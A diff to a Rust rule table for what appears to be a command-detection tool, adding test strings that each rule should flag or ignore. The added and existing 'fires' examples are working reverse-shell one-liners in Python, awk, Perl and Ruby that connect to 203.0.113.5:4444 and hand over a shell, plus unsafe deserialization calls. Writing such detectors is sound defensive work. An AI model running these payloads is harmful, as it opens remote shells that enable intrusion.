@@ -74,6 +74,7 @@ static RULES: &[Rule] = &[
         fires: &[
             "python3 -c 'import pickle,sys; pickle.loads(data)'",
             "python3 -c \"import yaml; yaml.load(text)\"",
+            "python3 -c \"import yaml; yaml.load(text, Loader=yaml.UnsafeLoader)\"",
             "ruby -e 'Marshal.load(STDIN.read)'",
             "php -r 'unserialize($_GET[\"x\"]);'",
         ],
@@ -107,11 +108,14 @@ static RULES: &[Rule] = &[
         when: When::Noted,
         fires: &[
             "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
+            "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.5/4444\";while(1){s|&getline c;while((c|&getline)>0)print|&s;close(c)}}'",
+            "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.5:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
             "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.5\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
             "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.5\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'",
         ],
         quiet: &[
             "python3 -c 'import socket; s=socket.socket(); s.connect((\"example.com\",80)); print(s.recv(100))'",
+            "gawk 'BEGIN{s=\"/inet/tcp/0/example.com/80\"; print \"GET /\" |& s; while ((s |& getline line) > 0) print line}'",
         ],
     },
     Rule {
